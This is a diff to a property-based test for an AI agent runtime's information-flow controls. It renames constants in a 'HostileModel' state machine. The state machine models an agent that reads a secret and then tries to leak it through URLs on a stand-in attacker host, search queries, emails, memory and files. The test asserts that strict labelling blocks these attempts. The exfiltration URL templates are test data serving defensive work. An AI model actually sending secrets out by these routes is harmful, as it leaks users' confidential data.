@@ -36,11 +36,11 @@ from runtime_pack.testing import ScriptedModel
 from runtime_pack.web_catalog import fence_frame
 from web_tools.testing import assert_fenced
 
-__all__ = ("HostileModel",)
+__all__ = ("PIECES", "PLACES", "RANK", "HostileModel")
 
-_RANK: Final = {"user": 0, "internal": 1, "external": 2, "public": 0, "workspace": 1, "secret": 2}
+RANK: Final = {"user": 0, "internal": 1, "external": 2, "public": 0, "workspace": 1, "secret": 2}
 _NONCE: Final = re.compile(r'nonce="([0-9a-f]{32})"')
-_PIECES: Final = (
+PIECES: Final = (
     SECRET,
     SECRET[:8],
     SECRET[::-1],
@@ -53,7 +53,7 @@ _PIECES: Final = (
     "hello",
     "",
 )
-_PLACES: Final = (
+PLACES: Final = (
     START,
     f"https://{ATTACKER}/t/k",
     f"https://{ATTACKER}/c?d=%s",
@@ -163,7 +163,7 @@ class HostileModel(RuleBasedStateMachine):
         """The secret is in the context from now on."""
         self.call("notes:read", {})
 
-    @rule(place=st.sampled_from(_PLACES), piece=st.sampled_from(_PIECES))
+    @rule(place=st.sampled_from(PLACES), piece=st.sampled_from(PIECES))
     def fetch(self, place: str, piece: str) -> None:
         """Any address, with anything in it."""
         url = place % self.piece(piece) if "%s" in place else place
@@ -180,12 +180,12 @@ class HostileModel(RuleBasedStateMachine):
         if not granted and self.preset is LabelPreset.STRICT:
             raise AssertionError(f"a composed address was fetched: {fetched}")
 
-    @rule(piece=st.sampled_from(_PIECES))
+    @rule(piece=st.sampled_from(PIECES))
     def search(self, piece: str) -> None:
         """Any query."""
         self.call("web:search", {"query": self.piece(piece) or "x"})
 
-    @rule(name=st.sampled_from(_MAILS), piece=st.sampled_from(_PIECES), own=st.booleans())
+    @rule(name=st.sampled_from(_MAILS), piece=st.sampled_from(PIECES), own=st.booleans())
     def send(self, name: str, piece: str, own: bool) -> None:
         """Any way out, to the attacker or to a friend."""
         given = self._arguments(name, self.piece(piece), own=own)
@@ -209,7 +209,7 @@ class HostileModel(RuleBasedStateMachine):
             "memory:write": {"text": text},
         }[name]
 
-    @rule(piece=st.sampled_from(_PIECES))
+    @rule(piece=st.sampled_from(PIECES))
     def write(self, piece: str) -> None:
         """A file, which may be published later."""
         self.call("files:write", {"path": self.piece(piece) or "x", "text": self.piece(piece)})
@@ -278,7 +278,7 @@ class HostileModel(RuleBasedStateMachine):
         """Within a run."""
         if not hasattr(self, "run"):
             return
-        now = (_RANK[self.run.label.integrity], _RANK[self.run.label.confidentiality])
+        now = (RANK[self.run.label.integrity], RANK[self.run.label.confidentiality])
         if now[0] < self.label[0] or now[1] < self.label[1]:
             raise AssertionError(f"the label fell from {self.label} to {now}")
         self.label = now
